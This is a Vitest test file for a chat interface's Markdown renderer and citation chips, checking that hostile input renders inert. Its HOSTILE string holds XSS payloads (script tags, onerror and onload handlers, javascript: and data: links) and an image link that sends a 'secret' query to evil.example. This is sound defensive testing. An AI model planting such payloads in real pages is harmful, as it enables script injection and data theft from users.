// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import fc from 'fast-check';
import { Profiler } from 'react';
import { afterEach, expect, test, vi } from 'vitest';
import { Citations } from '../../src/chat/Citation';
import Markdown from '../../src/chat/Markdown';
import type { Evidence } from '../../src/stream/events';

afterEach(cleanup);

const HOSTILE = `# <script>alert(1)</script>

<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>

![pixel](https://evil.example/?q=secret) ![](data:text/html,x) ![ref][pic]

[pic]: https://evil.example/pic.png "title"

[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [ok](https://aws.amazon.com/)
<javascript:alert(2)> [vb](vbscript:x) [rel](/api/workloads) https://evil.example/auto

- [ ] task \u202Egpj.exe\u202C with \u001b[31mANSI\u001b[0m and a\u200bb
- [x] done[^1]

[^1]: note <b onclick="x()">bold</b>

| a | b |
|---|---|
| <svg onload=alert(1)> | **half [evd_01KAJ5VR2MT5E8Q3Y7P9A1D4KX] |

\`\`\`html" onload="alert(1)
<script>alert(3)</script>
\`\`\`

~~~json
{"a": "\u202e"}
`;

const TAGS = new Set(
  'div p span strong em del a h1 h2 h3 h4 h5 h6 ul ol li blockquote hr br table thead tbody tr th td code pre figure figcaption button svg path rect section sup mark'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  `class dir href target rel tabindex type aria-label aria-hidden title role style start data-footnotes
   data-footnote-backref xmlns width height viewBox fill stroke stroke-width stroke-linecap x y rx ry
   stroke-linejoin d align`.split(/\s+/),
);

/** Nothing that runs, loads, or leads elsewhere than over http. */
function expectInert(root: HTMLElement) {
  const elements = [...root.querySelectorAll('*')];
  const tags = elements.map(({ tagName }) => tagName.toLowerCase());
  expect(tags.filter((tag) => !TAGS.has(tag))).toEqual([]);
  const attributes = elements.flatMap((element) => element.getAttributeNames());
  expect(attributes.filter((name) => !ATTRIBUTES.has(name))).toEqual([]);
  for (const link of root.querySelectorAll('[href]')) {
    expect(link.getAttribute('href')).toMatch(/^https?:\/\//);
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  }
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
  expect(root.textContent).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069]/);
}

test('hostile text does nothing, and is shown', () => {
  const { container } = render(<Markdown text={HOSTILE} />);

  expectInert(container);
  expect(container.textContent).toContain('<script>alert(1)</script>');
  expect(container.textContent).toContain('[picture: pixel, https://evil.example/?q=secret]');
  expect(container.textContent).toContain('‹U+202E›gpj.exe');
  expect(container.textContent).toContain('‹U+001B›[31mANSI');
  const links = screen.getAllByRole('link').map((link) => link.getAttribute('href'));
  expect(links).toEqual(['https://aws.amazon.com/', 'https://evil.example/auto']);
});

test('hostile text is inert however far it is written', () => {
  // Each block by itself: those before it are drawn once, and do not change.
  for (const block of HOSTILE.split('\n\n')) {
    const { container, rerender, unmount } = render(<Markdown text="" isStreaming />);
    for (let end = 1; end <= block.length; end++) {
      rerender(<Markdown text={block.slice(0, end)} isStreaming />);
      expectInert(container);
    }
    unmount();
  }
}, 60_000);

test('any text is inert', () => {
  const part = fc.constantFrom(
    ...['<', '>', '![', '](', ')', '[', ']', '"', "'", 'javascript:', 'onload=', '`', '```', '\n'],
    ...['\n\n', '<img src=', '<a href=', '&lt;', '*', '_', '|', '-', '\\', 'x', ' ', '[evd_', ':'],
  );
  const text = fc.array(part, { maxLength: 40 }).map((parts) => parts.join(''));
  fc.assert(
    fc.property(text, fc.boolean(), (hostile, isStreaming) => {
      const { container, unmount } = render(<Markdown text={hostile} isStreaming={isStreaming} />);
      expectInert(container);
      unmount();
    }),
    { numRuns: 150 },
  );
}, 30_000);

test('citations are numbered chips that open the evidence', async () => {
  const [one, two] = ['evd_01KAJ5VR2MT5E8Q3Y7P9A1D4KX', 'evd_01KAJ5VR2MT5E8Q3Y7P9A1D4KY'];
  const text = `Errors **[${two}]** and calls [${one}, ${two}]. \`[${one}]\` is code.`;
  const evidence = [{ id: one, tool: 'search_logs', excerpt: '14 x refused' } as Evidence];
  const open = vi.fn();
  render(
    <Citations text={text} evidence={evidence} onOpen={open}>
      <Markdown text={text} />
    </Citations>,
  );

  const chips = screen.getAllByRole('button').map(({ textContent }) => textContent);
  expect(chips).toEqual(['1', '2', '1']);
  await userEvent.click(screen.getByRole('button', { name: 'Evidence 2: search logs' }));
  expect(open).toHaveBeenCalledWith(one, text);
});

test('a citation that is half written does not flicker', () => {
  const text = 'It failed [evd_01KAJ5VR2MT5E8Q3Y7P9A1D4KX, evd_02';
  for (let end = 'It failed'.length; end <= text.length; end++) {
    const { container, unmount } = render(<Markdown text={text.slice(0, end)} isStreaming />);
    expect(container.textContent?.trim()).toBe('It failed');
    unmount();
  }
});

test('sentences that the evidence does not bear out are marked, across signs and citations', () => {
  const text =
    'All is **well** with `orders` [evd_1].\n\n- The table has 3 errors.\n- It is slow.\n\n' +
    '> Not supported by the evidence (it cites no evidence): “The table has 3 errors.”';
  const unsupported = ['All is **well** with `orders`.', 'The table has 3 errors.'];
  const { container } = render(<Markdown text={text} unsupported={unsupported} />);

  const marked = [...container.querySelectorAll('mark')].map(({ textContent }) => textContent);
  expect(marked.join('')).toBe(
    'All is well with orders . (the evidence does not bear this out)' +
      'The table has 3 errors. (the evidence does not bear this out)',
  );
});

test('code is coloured without a style of its own, and copied as it is', async () => {
  const user = userEvent.setup();
  const { container } = render(<Markdown text={'```py\nx = "1"  # one\n```'} />);

  expect(container.querySelector('.token.string')?.textContent).toBe('"1"');
  await user.click(screen.getByRole('button', { name: 'Copy this code' }));
  expect(await navigator.clipboard.readText()).toBe('x = "1"  # one');
});

test('a line of 100 KB is cut, and shown whole on a word', async () => {
  const line = 'word '.repeat(20_000);
  const began = performance.now();
  const { container } = render(<Markdown text={`Before\n\n${line}`} />);
  expect(performance.now() - began).toBeLessThan(1000);
  expect(container.textContent?.length).toBeLessThan(6000);

  await userEvent.click(screen.getByRole('button', { name: 'Show all 100,000 characters' }));

  expect(container.textContent?.length).toBeGreaterThan(99_000);
});

test('a piece of text draws the last block alone', () => {
  const settled = Array.from({ length: 60 }, (_, index) => `Paragraph ${index} of **it**.\n\n`);
  const text = `${settled.join('')}The end`;
  const { container, rerender } = render(<Markdown text={text} isStreaming />);
  const before = [...container.querySelectorAll('p')];
  let milliseconds = 0;
  const measured = (more: string) => (
    <Profiler id="delta" onRender={(_, __, actual) => (milliseconds = actual)}>
      <Markdown text={text + more} isStreaming />
    </Profiler>
  );
  rerender(measured(''));
  const whole = milliseconds;
  rerender(measured(' is near'));

  expect(container.querySelectorAll('p')).toHaveLength(before.length);
  expect(container.textContent).toContain('The end is near');
  expect(milliseconds).toBeLessThan(whole / 4);
});
